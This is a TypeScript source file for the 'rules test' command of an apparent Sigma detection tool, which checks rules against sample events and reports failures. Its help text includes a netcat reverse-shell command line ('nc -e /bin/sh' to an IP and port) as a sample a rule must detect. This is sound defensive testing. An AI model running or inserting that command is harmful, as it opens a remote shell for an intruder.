import { Command } from 'commander';
import { explain } from '../matching/explain.ts';
import { exitCode, formatProblem } from '../model/errors.ts';
import type { Explanation } from '../model/explanation.ts';
import type { Problem } from '../model/rule.ts';
import { explanationLines } from '../present/explanation.ts';
import type { Format } from '../present/layout.ts';
import { type RuleTests, type SampleOutcome, testRules } from '../rules-test.ts';
import type { RuleCollection } from '../sigma/rule.ts';
import { counted } from '../text/counted.ts';
import { safeJson } from '../text/safe-json.ts';
import { visible } from '../text/visible.ts';
import type { CommandIo } from './io.ts';
import { writeLines } from './output.ts';
import { type RulesDeps, rulesOf } from './rule-options.ts';
import { formatFor } from './terminal.ts';

interface TestOptions {
  readonly config?: string;
  readonly require?: true;
  readonly json?: true;
}

/** `sigmond rules test`: runs the samples that stand beside rules. */
export function rulesTestCommand(io: CommandIo, { configuredRules, noColor }: RulesDeps): Command {
  return new Command('test')
    .description('Run the samples beside rules: events that each must and must not match.')
    .argument('[paths...]', 'rule files or folders instead of the configured ones')
    .option('-c, --config <file>', 'configuration whose rules to test, and the values of their placeholders')
    .option('--require', 'a rule without samples is a failure too')
    .option('--json', 'answer as one JSON object')
    .addHelpText('after', help)
    .action(async (paths: readonly string[], options: TestOptions) => {
      const rules = await rulesOf({ ...options, ...(paths.length > 0 && { rules: paths }) }, { configuredRules });
      const tests = await testRules(rules);
      const isOk = isPassed(tests, options.require ?? false);
      await writeLines(io.stderr, tests.problems.map(formatProblem).map(visible));
      const lines = options.json ? [asJson(tests, isOk)] : asText(tests, options, formatFor(io.stdout, noColor));
      await writeLines(io.stdout, lines);
      io.setExitCode(isOk ? exitCode.ok : exitCode.runtime);
    });
}

const help = `
The samples of my-rule.yml stand in my-rule.samples.yaml:
  matches:
    - name: a shell on a socket
      fields: {Image: /usr/bin/nc, CommandLine: nc -e /bin/sh 192.0.2.7 4444}
  misses:
    - fields: {Image: /usr/bin/nc, CommandLine: nc -zv example.org 443}
The exit code is 0 when all of them hold, else 1.

Example:
  $ sigmond rules test /etc/sigmond/rules`;

function isPassed({ outcomes, untested, problems }: RuleTests, requireSamples: boolean): boolean {
  const isWrong = ({ severity }: Problem) => severity === 'error';
  return outcomes.every(holds) && !problems.some(isWrong) && !(requireSamples && untested.length > 0);
}

function holds({ sample, matched }: SampleOutcome): boolean {
  return sample.mustMatch === (matched !== undefined);
}

function asText(tests: RuleTests, options: TestOptions, format: Format): readonly string[] {
  const { outcomes, untested } = tests;
  const failed = outcomes.filter((outcome) => !holds(outcome));
  const lines = failed.flatMap((outcome) => failureLines(outcome, tests, format));
  if (options.require) lines.push(...untested.map(({ path, title }) => visible(`${path}: '${title}' has no samples`)));
  const rules = counted(new Set(outcomes.map(({ subject }) => subject.meta.id)).size, 'rule');
  const held = outcomes.length - failed.length;
  lines.push(`${rules} with ${counted(outcomes.length, 'sample')}: ${held} as they should be, ${failed.length} not`);
  if (untested.length > 0) lines.push(`${counted(untested.length, 'rule')} without samples`);
  return lines;
}

function failureLines(
  outcome: SampleOutcome,
  { collection }: RuleTests,
  { columns, color }: Format,
): readonly string[] {
  const { sample } = outcome;
  const { path, line, column } = sample.at;
  const what = sample.mustMatch ? 'must match and does not' : 'must not match and does';
  const explanation = explainOutcome(outcome, collection);
  const why = explanation && explanationLines(explanation, { columns: columns - 2, color });
  return [visible(`${path}:${line}:${column}: '${sample.name}' ${what}`), ...(why ?? []).map((text) => `  ${text}`)];
}

/** Of the event that matched, or of the last one, which should have. */
function explainOutcome(
  { subject, events, matched }: SampleOutcome,
  collection: RuleCollection,
): Explanation | undefined {
  const shown = matched ?? events.at(-1);
  return shown && explain(subject, collection, shown);
}

function asJson({ collection, outcomes, untested, problems }: RuleTests, isOk: boolean): string {
  const failures = outcomes.filter((outcome) => !holds(outcome));
  return safeJson({
    ok: isOk,
    samples: outcomes.length,
    failed: failures.map((outcome) => ({
      rule: outcome.subject.meta.id,
      name: outcome.sample.name,
      ...outcome.sample.at,
      mustMatch: outcome.sample.mustMatch,
      events: outcome.events.map(({ logsource, fields, message }) => ({ logsource, fields, message })),
      explanation: explainOutcome(outcome, collection),
    })),
    untested: untested.map(({ id, title, path }) => ({ id, title, path })),
    problems: problems.map(({ severity, at, text }) => ({ severity, ...at, text })),
  });
}
